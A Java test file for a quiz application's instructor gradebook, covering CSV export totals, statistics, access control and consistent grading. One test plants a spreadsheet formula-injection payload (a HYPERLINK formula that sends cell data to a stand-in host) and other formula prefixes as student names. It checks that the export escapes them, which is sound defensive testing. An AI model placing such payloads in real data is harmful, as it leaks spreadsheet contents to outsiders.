package org.convquiz.gradebook;

import static org.hamcrest.Matchers.containsString;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.convquiz.quiz.QuizService;
import org.convquiz.quiz.Session;
import org.convquiz.quiz.TestData;
import org.convquiz.web.Browser;
import org.junit.jupiter.api.Test;

/** The instructor's gradebook and statistics come from what students stored; only the course's instructors see them. */
@QuarkusTest
class GradebookTest {
    @Inject
    TestData data;

    @io.quarkus.test.common.http.TestHTTPResource("/")
    java.net.URL root;

    @Test
    void gradebookCsvAndStatisticsReflectStoredAnswers() throws Exception {
        var world = data.world(QuizService.Settings.practice(), "padding-output-shape");
        Session student = Session.login(world.student(), TestData.PASSWORD);
        long attempt = student.start(world.courseId(), world.quizId());
        // Pinned to the tutorial's exercise 3: 3×100×100, kernel 3, padding 2 → 4×102×102; forgetting the + 1 gives 4×101×101.
        data.pinVariants(attempt);
        String wrong = "4×101×101";
        student.page("/attempts/" + attempt);
        student.post("/attempts/" + attempt + "/items/0", "idempotency", student.idempotency(0), "a.0.shape", wrong).then().statusCode(303);
        // The other student answers right in a fresh attempt.
        Session other = Session.login(world.other(), TestData.PASSWORD);
        long second = other.start(world.courseId(), world.quizId());
        data.pinVariants(second);
        other.page("/attempts/" + second);
        other.post("/attempts/" + second + "/items/0", "idempotency", other.idempotency(0), "a.0.shape",
                "4×102×102").then().statusCode(303);

        Session teacher = Session.login(world.instructor(), TestData.PASSWORD);
        teacher.request().header("Accept-Language", "en").get("/courses/" + world.courseId() + "/gradebook").then().statusCode(200)
                .body(containsString(world.student())).body(containsString(world.other()));
        String csv = teacher.request().accept("text/csv").get("/courses/" + world.courseId() + "/gradebook.csv").then().statusCode(200)
                .contentType(containsString("text/csv")).extract().asString();
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.replace("\uFEFF", ""))).getRecords();
        assertEquals(2, records.size());
        for (CSVRecord r : records) {
            String expected = r.get("username").equals(world.other()) ? "3" : "1"; // 3 of 3 points; one dimension of three right
            assertEquals(expected, r.get("total"), r.toString());
        }
        String stats = teacher.page("/courses/" + world.courseId() + "/statistics");
        assertTrue(stats.contains("padding-output-shape"), stats);
        assertTrue(stats.contains("You forgot the + 1 in the output-size formula × 1"), "the named mistake is counted, by the name students see");
        assertTrue(stats.contains("50%"), "one of two answers fully right");

        for (String lang : List.of("en", "zh")) {
            try (Browser browser = Browser.open(lang)) {
                var d = browser.driver();
                browser.signIn(root + "login?lang=" + lang, world.instructor(), TestData.PASSWORD);
                d.get(root + "courses/" + world.courseId() + "/gradebook");
                assertEquals(2, d.findElements(org.openqa.selenium.By.cssSelector("[data-testid=gradebook] tbody tr")).size());
                browser.screenshot("gradebook-" + lang);
                d.get(root + "courses/" + world.courseId() + "/statistics");
                browser.screenshot("statistics-" + lang);
            }
        }
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreExportedAsText() throws Exception {
        var world = data.world(QuizService.Settings.practice(), "padding-output-shape");
        String formula = "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")";
        data.rename(world.student(), formula);
        data.rename(world.other(), "-2+3");
        String csv = Session.login(world.instructor(), TestData.PASSWORD).request().accept("text/csv")
                .get("/courses/" + world.courseId() + "/gradebook.csv").then().statusCode(200).extract().asString();
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.replace("\uFEFF", ""))).getRecords();
        for (CSVRecord r : records) {
            String expected = r.get("username").equals(world.student()) ? "'" + formula : "'-2+3";
            assertEquals(expected, r.get("name"), "shown as text, not run");
        }
        for (String[] c : new String[][] {{"+1", "'+1"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
            {"a=b", "a=b"}, {"", ""}, {"李雷", "李雷"}}) {
            assertEquals(c[1], CsvCells.safe(c[0]));
        }
    }

    @Test
    void onlyTheCoursesInstructorsSeeIt() {
        var world = data.world(QuizService.Settings.practice(), "padding-output-shape");
        Session.login(world.student(), TestData.PASSWORD).get("/courses/" + world.courseId() + "/gradebook").then().statusCode(403);
        var elsewhere = data.world(QuizService.Settings.practice(), "padding-output-shape");
        Session.login(elsewhere.instructor(), TestData.PASSWORD).request().accept("text/csv")
                .get("/courses/" + world.courseId() + "/gradebook.csv").then().statusCode(404);
        Session.login(world.instructor(), TestData.PASSWORD).get("/courses/" + world.courseId() + "/statistics").then().statusCode(200);
    }

    /**
     * The course page and the gradebook apply one grading rule: an exam attempt counts once handed in, the best
     * counted attempt is the grade. Pinned to the tutorial's exercise 3 (4×102×102): 4×101×101 gets 1 of 3 points.
     */
    @Test
    void coursePageAndGradebookAgreeOnWhatCounts() throws Exception {
        var world = data.world(new QuizService.Settings(org.convquiz.quiz.Quiz.Mode.exam, org.convquiz.quiz.Quiz.Reveal.after_submit,
                null, null, 30, 2), "padding-output-shape");
        Session student = Session.login(world.student(), TestData.PASSWORD);
        long first = student.start(world.courseId(), world.quizId());
        data.pinVariants(first);
        student.page("/attempts/" + first);
        student.post("/attempts/" + first + "/submit", "idempotency", student.idempotency(0), "a.0.shape", "4×101×101").then().statusCode(303);
        long second = student.start(world.courseId(), world.quizId());
        data.pinVariants(second);
        student.page("/attempts/" + second);
        student.post("/attempts/" + second + "/drafts", "position", "0", "part", "shape", "a.0.shape", "4×102×102").then().statusCode(204);
        Session teacher = Session.login(world.instructor(), TestData.PASSWORD);
        assertEquals("1", bestOnCoursePage(student, world.courseId()), "the open attempt does not count yet");
        assertEquals("1", gradebookTotal(teacher, world.courseId(), world.student()));
        student.page("/attempts/" + second);
        student.post("/attempts/" + second + "/submit", "idempotency", student.idempotency(0)).then().statusCode(303);
        assertEquals("3", bestOnCoursePage(student, world.courseId()), "handed in: the better attempt counts");
        assertEquals("3", gradebookTotal(teacher, world.courseId(), world.student()));
    }

    private static String bestOnCoursePage(Session student, long courseId) {
        String page = student.request().header("Accept-Language", "en").get("/courses/" + courseId).then().statusCode(200).extract().asString();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("class=\"score\">[^<0-9]*([0-9.]+)").matcher(page);
        assertTrue(m.find(), page);
        return m.group(1);
    }

    private static String gradebookTotal(Session teacher, long courseId, String username) throws Exception {
        String csv = teacher.request().accept("text/csv").get("/courses/" + courseId + "/gradebook.csv").then().statusCode(200).extract().asString();
        for (CSVRecord r : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.replace("\uFEFF", ""))).getRecords()) {
            if (r.get("username").equals(username)) {
                return r.get("total");
            }
        }
        throw new AssertionError(username + " not in " + csv);
    }
}
